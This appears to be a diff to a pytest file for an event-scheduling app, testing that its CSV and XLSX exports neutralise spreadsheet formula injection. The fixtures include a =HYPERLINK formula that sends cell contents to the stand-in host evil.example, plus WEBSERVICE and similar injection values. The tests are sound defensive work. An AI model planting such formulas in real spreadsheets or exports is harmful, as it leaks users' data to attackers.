@@ -16,8 +16,8 @@ import pytest
 from schedules.results import results, results_csv
 from schedules.scoring import Criterion, Score, Scoring
 from schedules.tabular import csv_text, neutralise, xlsx_bytes
-from tests.builders import BASE_CSV, write_event
-from tests.conftest import AUTH, start_app
+from tests.support.app import AUTH, start_app
+from tests.support.builders import BASE_CSV, write_event
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&H2,"Click me")'
 HOSTILE = {"a1": LEAK, "a2": "+WEBSERVICE(A1)", "a3": "-2+3", "j1": "@SUM(A1)"}
@@ -64,7 +64,9 @@ def test_xlsx_stores_every_text_as_a_string() -> None:
     data = xlsx_bytes([["name"], [LEAK], ["=1+1"]])
     sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet
-    values = [c.value for (c,) in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows()]
+    book = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert book is not None
+    values = [c.value for (c,) in book.iter_rows()]
     assert values == ["name", "'" + LEAK, "'=1+1"]
     assert csv_text([[LEAK]]) == '"\'=HYPERLINK(""http://evil.example/?leak=""&H2,""Click me"")"\n'
 
@@ -72,10 +74,11 @@ def test_xlsx_stores_every_text_as_a_string() -> None:
 def names_in_sheet(data: bytes) -> set[str]:
     assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
     book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.active is not None
     rows = list(book.active.iter_rows())
     column = [c.value for c in rows[0]].index("name")
     assert all(row[column].data_type == "s" for row in rows[1:])
-    return {row[column].value for row in rows[1:]}
+    return {str(row[column].value) for row in rows[1:]}
 
 
 def names_in_csv(text: str, column: str = "name") -> set[str]:
